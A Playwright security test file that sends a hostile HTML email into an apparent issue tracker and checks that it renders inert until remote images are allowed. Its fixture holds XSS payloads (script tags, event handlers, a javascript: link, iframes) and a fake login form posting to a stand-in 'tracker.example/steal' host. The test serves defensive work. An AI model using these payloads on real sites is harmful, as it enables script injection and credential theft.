// Issue 6 / E3: HTML from email can never run script or load remote content without consent.
import { expect, type Page, test } from "@playwright/test";
import { signInAs } from "./support/auth.ts";
import { sendCustomerMail } from "./support/mail.ts";
import { collectPageErrors, graphql, serviceDeskAddress, unique } from "./web-helpers.ts";

const HOSTILE_HTML = `
<p>Hello <b>support</b>, see the picture.</p>
<script>window.__pwned = "script"</script>
<img src="https://tracker.example/pixel.gif" alt="tracking pixel" onerror="window.__pwned = 'onerror'">
<img src="x" onerror="window.__pwned = 'onerror2'">
<a href="javascript:window.__pwned = 'href'">click me</a>
<p onclick="window.__pwned = 'onclick'" onmouseover="window.__pwned = 'hover'" style="background:url(https://tracker.example/bg.png)">hover me</p>
<iframe src="https://tracker.example/frame"></iframe>
<svg><image href="https://tracker.example/svg.png" onload="window.__pwned = 'svg'"></image></svg>
<form action="https://tracker.example/steal"><input name="password"><button>Log in</button></form>
<style>body { background: url(https://tracker.example/style.png) }</style>
<object data="https://tracker.example/obj"></object>
`;

const watchHostile = async (page: Page) => {
  const remote: string[] = [];
  const dialogs: string[] = [];
  await page.route(/tracker\.example/, (route) => {
    remote.push(route.request().url());
    return route.abort();
  });
  page.on("dialog", (d) => {
    dialogs.push(d.message());
    void d.dismiss();
  });
  return { remote, dialogs };
};

/** Nothing executable or remote survives in any rendered Markdown block. */
const expectInert = async (page: Page) => {
  const pwned = await page.evaluate(() => (globalThis as unknown as { __pwned?: string }).__pwned ?? null);
  const report = await page.locator(".markdown *").evaluateAll((all) => ({
    dangerousTags: all
      .filter((e) => /^(script|iframe|object|embed|form|style|svg|input|button|link|meta)$/i.test(e.tagName))
      .map((e) => e.tagName),
    handlers: all.flatMap((e) =>
      [...e.attributes].filter((a) => /^on/i.test(a.name)).map((a) => `${e.tagName}[${a.name}]`),
    ),
    styles: all.filter((e) => e.hasAttribute("style")).length,
    scriptLinks: all.filter((e) => /^\s*javascript:/i.test(e.getAttribute("href") ?? "")).length,
    remoteImages: all
      .filter((e) => e.tagName === "IMG")
      .map((e) => e.getAttribute("src") ?? "")
      .filter((src) => !(src.startsWith("data:") || src.startsWith("/uploads/") || src === "")),
  }));
  expect(pwned).toBeNull();
  expect(report).toEqual({ dangerousTags: [], handlers: [], styles: 0, scriptLinks: 0, remoteImages: [] });
};

test("an email whose HTML carries script, event handlers and remote images renders inert until consent", async ({
  page,
}) => {
  const errors = collectPageErrors(page);
  const { remote, dialogs } = await watchHostile(page);
  const subject = unique("Hostile HTML");
  await signInAs(page, "maintainer");
  await sendCustomerMail({
    from: "Mallory <mallory@attacker.example>",
    to: await serviceDeskAddress(page, "demo/app"),
    subject,
    html: HOSTILE_HTML,
  });

  // The same content once more as a note body, straight to the renderer (raw HTML is legal Markdown).
  await page.goto(`/demo/app/-/issues?search=${encodeURIComponent(subject)}`);
  const link = page.getByRole("link", { name: subject });
  await expect(async () => {
    await page.reload();
    await expect(link).toBeVisible({ timeout: 2_000 });
  }).toPass({ timeout: 30_000 });
  await link.click();
  await expect(page.getByRole("heading", { level: 1, name: subject })).toBeVisible();
  const { project } = await graphql<{ project: { issue: { id: string } } }>(
    page,
    "query ($p: ID!, $i: String!) { project(fullPath: $p) { issue(iid: $i) { id } } }",
    { p: "demo/app", i: page.url().split("/").pop() },
  );
  await graphql(page, "mutation ($i: CreateNoteInput!) { createNote(input: $i) { errors } }", {
    i: { noteableId: project.issue.id, body: HOSTILE_HTML, internal: true },
  });
  await page.reload();
  await expect(page.getByRole("article", { name: /Internal note by @maintainer/ })).toContainText("hover me");

  await expect(page.getByText("Hello support, see the picture.").first()).toBeVisible();
  await page.getByText("hover me").first().hover();
  await page.getByText("hover me").first().click();
  await page.getByText("click me").first().click();
  await expectInert(page);
  expect(remote).toEqual([]);
  expect(dialogs).toEqual([]);
  await page.screenshot({ path: "test-results/screens/inert-email.png", fullPage: true });

  // Consent: the responder asks for the remote images of the description; only then are they requested.
  await page.getByRole("button", { name: "Show remote images" }).first().click();
  await expect.poll(() => remote.some((u) => u.includes("tracker.example/pixel.gif"))).toBe(true);
  expect(await page.evaluate(() => (globalThis as unknown as { __pwned?: string }).__pwned ?? null)).toBeNull();
  // The strict CSP (script-src 'self') reports the hostile inline handlers it blocks while the Markdown
  // chunk sanitises them: defence in depth doing its job. Anything else is an error.
  const blockedByCsp = (e: string) => /^Executing inline event handler violates .*script-src 'self'/.test(e);
  expect(errors.filter((e) => !e.includes("tracker.example") && !e.includes("ERR_FAILED") && !blockedByCsp(e))).toEqual(
    [],
  );
});
